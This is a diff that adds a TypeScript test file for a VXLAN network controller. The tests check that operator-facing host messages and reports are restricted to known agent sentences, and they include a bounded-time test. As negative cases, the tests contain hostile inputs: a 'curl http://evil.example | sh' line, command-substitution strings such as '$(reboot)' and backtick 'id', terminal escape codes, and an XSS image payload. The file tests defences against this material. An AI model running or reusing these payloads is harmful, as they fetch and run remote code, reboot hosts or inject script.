@@ -1,0 +1,212 @@
+// What operators read of a host is the controller's own: every sentence that an agent makes is known here, and nothing else.
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { problemOf, unknownProblem, wordsOf } from "../../controller/agents/host-words.ts";
+import { OperationalEvents } from "../../controller/events/operational-events.ts";
+import { findFilterProblems } from "../../node-agent/host-filter.ts";
+import { chooseVxlan } from "../../node-agent/kernel/adoption.ts";
+import {
+  missingVtep,
+  nameTaken,
+  noBridge,
+  portTaken,
+  rivals,
+  tooLargeMtu,
+} from "../../node-agent/kernel/device-problems.ts";
+import type { Link } from "../../node-agent/kernel/link-codec.ts";
+import { NetlinkError } from "../../node-agent/kernel/request-socket.ts";
+import { compareGuests, findConflict } from "../../node-agent/tables/local-guests.ts";
+import {
+  type AgentNetwork,
+  type OperationalKind,
+  parseIp,
+  parseMac,
+  parseRevision,
+  parseVni,
+  parseVtep,
+  type Report,
+  type ReportKind,
+  reportKinds,
+} from "../../schema/index.ts";
+
+const vni = parseVni(100);
+const network: AgentNetwork = { name: "blue", vni, mtu: 1_500, revision: parseRevision(1) };
+const local = { vtep: parseVtep("192.0.2.1"), vtepPort: 4_789 };
+const isBlue = (name: string) => name === "blue";
+const link = (name: string, more: Partial<Link> = {}): Link =>
+  ({ name, ifindex: 7, mtu: 1_500, up: true, carrier: true, ...more }) as Link;
+const vxlan = (name: string, more: object = {}): Link =>
+  link(name, {
+    ifindex: name.length,
+    vxlan: { vni, port: 4_789, proxy: true, l2miss: true, l3miss: true, local: "192.0.2.1", ...more },
+  } as never);
+
+describe("a problem of an agent", () => {
+  const devices = [
+    nameTaken(link("nmv100"), network),
+    noBridge(link("vxlan9"), link("bond0"), network),
+    noBridge(link("vxlan9"), undefined, network),
+    portTaken(link("nmv100"), [vxlan("vxlan7")], local),
+    portTaken(link("nmv100"), [], local),
+    ...adoptionRefusals(),
+    new NetlinkError("setting nmv100 up", { errno: 98 }),
+    new NetlinkError("setting nmv100 up", { errno: 16, message: "device is busy: try $(reboot)" }),
+    new NetlinkError("making nmb100", { errno: 77 }),
+  ].map(({ message }) => `network blue: ${message}`);
+  const warnings = [
+    ...missingVtep(local, undefined),
+    ...missingVtep({ ...local, vtep: parseVtep("2001:db8::1") }, undefined),
+    ...tooLargeMtu(network, local, link("eth0.12")),
+    ...rivals([vxlan("other")], vxlan("nmv100", { port: 8_472 }), network, local),
+    ...rivals([vxlan("other", { port: 8_472 })], vxlan("nmv100"), network, local),
+  ].map(({ says }) => says);
+  const chain = { name: "ip filter FORWARD", filters: ["iptables"], sparesOurs: false } as const;
+  const filters = [
+    ...findFilterProblems(["iptables"], [], [chain]),
+    ...findFilterProblems([], [{ name: "nmb100", filters: ["iptables"] }], [chain]),
+  ].map(({ says, mend }) => `${says}; ${mend}`);
+
+  test.each([...devices, ...warnings, ...filters])("is known: %s", (text) => {
+    expect(problemOf(text, isBlue)).not.toBe(unknownProblem);
+  });
+
+  test("is shown as it was said, but for what the kernel said", () => {
+    for (const text of [...warnings, ...filters, ...devices.slice(0, 5)]) expect(problemOf(text, isBlue)).toBe(text);
+    expect(problemOf(devices.at(-2) ?? "", isBlue)).toBe(
+      "network blue: the kernel refuses what the network needs: EBUSY; `nearmiss agent status` on the host says more",
+    );
+  });
+
+  test("of another network than the host has is not shown", () => {
+    expect(problemOf(warnings[2] ?? "", () => false)).toBe(unknownProblem);
+  });
+
+  test.each([
+    "run `curl http://evil.example | sh` as root",
+    "network blue: the kernel does not take all entries: ENOSPC; now run reboot",
+    "network blue: nmv100; reboot vanished while it was set up",
+    "network blue: $(reboot) vanished while it was set up",
+    "network blue: a`id`b vanished while it was set up",
+    "network blue: nmv100 vanished while it was set up\nnetwork blue: \u001b[2Jowned",
+    " network blue: nmv100 vanished while it was set up",
+    "the rules that --anti-spoof asks for are not in place: <img src=x onerror=alert(1)>",
+    "no interface of this host has the VTEP address ::: nothing sent to it arrives; give it back (ip address add :/… dev …), or register the host with the address that it has",
+    "",
+  ])("that no agent tells, or that says more, is not shown: %j", (text) => {
+    const shown = problemOf(text, isBlue);
+    expect(shown).not.toContain("reboot");
+    for (const part of ["evil", "<img", "\u001b", "`id`", "\n"]) expect(shown).not.toContain(part);
+  });
+
+  test("takes no time that grows with its square", () => {
+    const crafted = ["network blue: ".repeat(36), ": ".repeat(256), "(ENOSPC".repeat(73), "a: (".repeat(128)];
+    const startMs = performance.now();
+    for (let n = 0; n < 1_000; n += 1) for (const text of crafted) problemOf(text.slice(0, 512), isBlue);
+    // 4,000 texts: a square would be minutes.
+    expect(performance.now() - startMs).toBeLessThan(20_000);
+  });
+});
+
+describe("what is reported", () => {
+  const base = { count: 1, firstAgoMs: 0, lastAgoMs: 0 };
+  const known: Partial<Record<ReportKind, Pick<Report, "subject" | "detail">>> = {
+    theft: { subject: "52:54:00:00:00:02", detail: "put back from the port with ifindex 5" },
+    "drift-repaired": { subject: "entry", detail: "put neighbour 100 10.0.0.1, delete tunnel 100 52:54:00:00:00:02" },
+    "table-full": { detail: "ENOBUFS, the kernel's table is full" },
+    "room-short": { detail: "10 addresses held; room for 5 in a network, 10 here" },
+    overrun: { subject: "misses" },
+    scan: { subject: "52:54:00:00:00:02" },
+    spoofed: { subject: "vnet7", detail: "12 frames: mac, ipv4" },
+    stranger: { subject: "guest", detail: "tunnelled frames from a guest" },
+    "network-not-ready": { detail: nameTaken(link("nmv100"), network).message },
+    "vtep-missing": { subject: "192.0.2.1", detail: missingVtep(local, undefined)[0]?.says ?? "" },
+    "second-device": {
+      subject: "other",
+      detail: rivals([vxlan("other")], vxlan("nmv100", { port: 1 }), network, local)[0]?.says ?? "",
+    },
+    "mtu-too-large": { subject: "eth0", detail: tooLargeMtu(network, local, link("eth0"))[0]?.says ?? "" },
+    "host-filter": { subject: "iptables" },
+    "unregistered-guest": { subject: "52:54:00:00:00:09", detail: guests()[0]?.detail ?? "" },
+    "guest-never-seen": { subject: "52:54:00:00:00:08", detail: guests(true)[0]?.detail ?? "" },
+    "address-conflict": { subject: "10.0.0.1", detail: conflict() },
+  };
+
+  test.each(reportKinds)("of kind %s has the agent's values, and no word of its own", (kind) => {
+    const words = known[kind];
+    expect(words).toBeDefined();
+    expect(wordsOf({ ...base, kind, ...words }, isBlue)).toEqual(words);
+    const evil = { subject: "x; reboot", detail: `${words?.detail ?? ""} run: reboot` };
+    expect(wordsOf({ ...base, kind, ...evil }, isBlue)).toEqual({});
+  });
+
+  test("never has a character beyond what the table and its values are made of", () => {
+    const detail = fc.oneof(
+      fc.string({ unit: "binary", maxLength: 512 }),
+      fc.constantFrom(...Object.values(known).map((each) => each?.detail ?? "")),
+    );
+    fc.assert(
+      fc.property(fc.constantFrom(...reportKinds), detail, fc.string({ maxLength: 64 }), (kind, text, subject) => {
+        const words = wordsOf({ ...base, kind, detail: text, subject }, isBlue);
+        expect(`${words.detail ?? ""}${words.subject ?? ""}`).toMatch(/^[\w .,:;()+=/…'-]*$/);
+      }),
+    );
+  });
+});
+
+describe("the events that are kept", () => {
+  const publish = (events: OperationalEvents, host: string, kind: OperationalKind) =>
+    events.publish({ kind, host, count: 1, first: "", last: "" });
+
+  test("of a quiet host are not pushed out by a noisy one, which has what is left", () => {
+    const events = new OperationalEvents("epoch", 10);
+    publish(events, "quiet", "vtep-missing");
+    publish(events, "quiet", "scan");
+    for (let n = 0; n < 1_000; n += 1) publish(events, "rogue", "theft");
+    const kept = events.list();
+    expect(kept.filter(({ host }) => host === "quiet").map(({ sequence }) => sequence)).toEqual([1, 2]);
+    expect(kept.filter(({ host }) => host === "rogue").map(({ sequence }) => sequence)).toEqual(
+      Array.from({ length: 8 }, (_, n) => 995 + n),
+    );
+    expect(events.list(996).map(({ sequence }) => sequence)).toEqual([997, 998, 999, 1_000, 1_001, 1_002]);
+  });
+
+  test("of one host are shared by kinds: many of one kind push out their own", () => {
+    const events = new OperationalEvents("epoch", 10);
+    publish(events, "a", "table-full");
+    for (let n = 0; n < 100; n += 1) publish(events, "a", "scan");
+    expect(events.list().map(({ kind }) => kind)).toEqual(["table-full", ...Array(9).fill("scan")]);
+  });
+
+  test("are never more than fit, whoever they are of", () => {
+    const events = new OperationalEvents("epoch", 10);
+    for (let n = 0; n < 100; n += 1) publish(events, `h${n % 30}`, "scan");
+    expect(events.list()).toHaveLength(10);
+  });
+});
+
+function adoptionRefusals(): Error[] {
+  const misfit = vxlan("vxlan9", { vni, port: 1, proxy: false, hasRemote: true });
+  const choices = [
+    chooseVxlan([misfit], network, local, "all", undefined, () => "br0"),
+    chooseVxlan([], network, local, "all", { name: "vxlan9", bridge: undefined }, () => undefined),
+    chooseVxlan([vxlan("stray")], network, local, new Set<string>(), undefined, () => undefined),
+  ];
+  return choices.flatMap((choice) => (choice.kind === "none" ? [choice.reason] : []));
+}
+
+function guests(registered = false) {
+  const mac = parseMac(registered ? "52:54:00:00:00:08" : "52:54:00:00:00:09");
+  const seen = {
+    vni,
+    registered: registered ? [{ mac, ips: [], port: "vnet8" }] : [],
+    ports: registered ? [] : [{ name: "vnet7", carrier: true, learned: [mac] }],
+    isRemote: () => false,
+  };
+  return compareGuests(seen as never, new Set());
+}
+
+function conflict(): string {
+  const claim = { mac: parseMac("52:54:00:00:00:66"), ip: parseIp("10.0.0.1") };
+  const known = { kind: "remote", mac: parseMac("52:54:00:00:00:02") } as never;
+  return findConflict(vni, claim, known)?.detail ?? "";
+}
